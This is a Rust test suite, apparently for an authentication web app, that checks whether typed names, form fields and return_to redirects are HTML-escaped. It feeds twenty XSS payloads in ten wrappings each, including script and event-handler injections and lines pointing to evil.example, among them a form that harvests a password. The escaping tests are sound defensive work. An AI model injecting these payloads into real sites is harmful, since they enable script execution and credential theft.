//! P30 on the pages: hostile text is only text.

use keyholder_core::account::{Name, Role};
use keyholder_core::testing::directory_contract::{BETTER, CARLA, GOOD, WRONG};

use crate::world::{Page, World};

/// What would be more than text, were it not escaped.
fn payloads() -> Vec<String> {
    let seeds = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "'><a href=javascript:alert(1)>x</a>",
        "\" onfocus=alert(1) autofocus x=\"",
        "</title><script>alert(1)</script>",
        "<!--<script>alert(1)//-->",
        "{{ 7*7 }}{% raw %}",
        "&lt;script&gt;alert(1)",
        "<form action=//evil.example><input name=password>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{background:url(//evil.example)}</style>",
        "\u{0}<script>",
        "`${alert(1)}`",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<details open ontoggle=alert(1)>",
        "<input value='' onfocus=alert(1)>",
    ];
    let wraps: [fn(&str) -> String; 10] = [
        str::to_owned,
        |seed| format!("Olga {seed}"),
        |seed| format!("{seed} Olga"),
        |seed| seed.to_uppercase(),
        |seed| format!("\"{seed}\""),
        |seed| format!("'{seed}'"),
        |seed| format!("</h1>{seed}"),
        |seed| format!("</form></main>{seed}"),
        |seed| format!("-->{seed}<!--"),
        |seed| format!("&quot;{seed}&#x3c;"),
    ];
    seeds
        .iter()
        .flat_map(|seed| wraps.iter().map(move |wrap| wrap(seed)))
        .collect()
}

/// The tags of a page, as a browser would see them: what is between them is text.
fn tags(page: &Page) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = page.body.as_str();
    while let Some(start) = rest.find('<') {
        rest = &rest[start..];
        // An attribute may hold anything but its own quote.
        let mut quoted = false;
        let end = rest
            .char_indices()
            .find(|(_, letter)| {
                quoted ^= *letter == '"';
                *letter == '>' && !quoted
            })
            .map_or(rest.len(), |(end, _)| end);
        let names: String = outside_quotes(&rest[..end]);
        tags.push(names);
        rest = &rest[end..];
    }
    tags
}

fn outside_quotes(tag: &str) -> String {
    tag.split('"').step_by(2).collect::<Vec<_>>().join("\"\"")
}

/// Whether a page with hostile text has the same tags as with harmless text.
fn p30_text_stays_text(hostile: &Page, harmless: &Page) -> Result<(), String> {
    let (one, other) = (tags(hostile), tags(harmless));
    if one == other {
        Ok(())
    } else {
        let strange: Vec<_> = one.iter().filter(|tag| !other.contains(tag)).collect();
        Err(format!("{} has {strange:?}", hostile.asked))
    }
}

#[tokio::test]
async fn p30_what_is_typed_comes_back_as_text() {
    let world = World::open().await;
    let mut browser = world.browser();
    let asked = [
        ("/auth/sign-in", vec!["email", "keep"]),
        ("/auth/welcome", vec!["email", "code"]),
    ];
    for (path, names) in asked {
        browser.get(path).await;
        let with = |text: &str| {
            let mut fields: Vec<_> = names.iter().map(|name| (*name, text.to_owned())).collect();
            fields.push(("password", BETTER.to_owned()));
            fields
        };
        let fill = async |text: &str| {
            let fields = with(text);
            let fields: Vec<_> = fields
                .iter()
                .map(|(name, value)| (*name, value.as_str()))
                .collect();
            browser.clone().fill(path, &fields).await
        };
        let harmless = fill("somebody").await;
        for payload in payloads() {
            let page = fill(&payload).await;
            if page.status != harmless.status {
                // An address that was tried too often waits.
                continue;
            }
            assert_eq!(p30_text_stays_text(&page, &harmless), Ok(()), "{payload}");
        }
    }
}

#[tokio::test]
async fn p30_a_name_is_text_wherever_it_is_shown() {
    let world = World::open().await;
    world.enrolled(CARLA, Role::Customer).await;
    let mut browser = world.signed_in(CARLA).await;
    let olga = world.scene.olga().await;
    let shop = olga.shop().await.unwrap();
    let (mut revision, harmless_account) = {
        let page = browser.get("/auth/account").await;
        (page.field("revision").unwrap(), page)
    };
    let harmless_door = world.browser().get("/auth/sign-in").await;
    let mut shops = shop.revision;
    let mut seen = 0;
    for payload in payloads() {
        // What cannot be seen is no name.
        let Ok(name) = Name::parse(&payload) else { continue };
        let fields = [("name", payload.as_str()), ("revision", revision.as_str())];
        let page = browser.fill("/auth/account/name", &fields).await;
        assert_eq!(page.place(), "/auth/account?done=name", "{payload} is a name");
        shops = olga
            .change_policy(shops, name, shop.policy.clone())
            .await
            .map_or(shops, |shop| shop.revision);
        let page = browser.get("/auth/account").await;
        revision = page.field("revision").unwrap();
        let same = |page: &Page| {
            // The history grows by what is done here, line by line.
            let (before, _) = page.body.split_once("history-title").unwrap();
            Page {
                body: before.to_owned(),
                ..page.clone()
            }
        };
        assert_eq!(
            p30_text_stays_text(&same(&page), &same(&harmless_account)),
            Ok(()),
            "{payload}"
        );
        let door = world.browser().get("/auth/sign-in").await;
        assert_eq!(p30_text_stays_text(&door, &harmless_door), Ok(()), "{payload}");
        seen += 1;
    }
    assert!(seen > 150, "only {seen} names were looked at");
}

#[tokio::test]
async fn p30_mutant_text_that_is_not_escaped_is_found() {
    let world = World::open().await;
    let mut browser = world.browser();
    let harmless = browser.sign_in("somebody", WRONG).await;
    for payload in payloads() {
        let raw = harmless
            .body
            .replace("value=\"somebody\"", &format!("value=\"{payload}\""));
        let page = Page {
            body: raw,
            ..harmless.clone()
        };
        let changes = payload.contains(['<', '"']);
        assert_eq!(
            p30_text_stays_text(&page, &harmless).is_err(),
            changes && payload.contains('"'),
            "{payload}"
        );
    }
    assert_ne!(GOOD, WRONG, "two passwords");
}

#[tokio::test]
async fn a_place_to_return_to_is_text() {
    let world = World::open().await;
    let harmless = world.browser().get("/auth/sign-in?return_to=/a").await;
    for payload in payloads() {
        let query: String = form_urlencoded::byte_serialize(format!("/{payload}").as_bytes()).collect();
        let page = world
            .browser()
            .get(&format!("/auth/sign-in?return_to={query}"))
            .await;
        assert_eq!(p30_text_stays_text(&page, &harmless), Ok(()), "{payload}");
    }
}
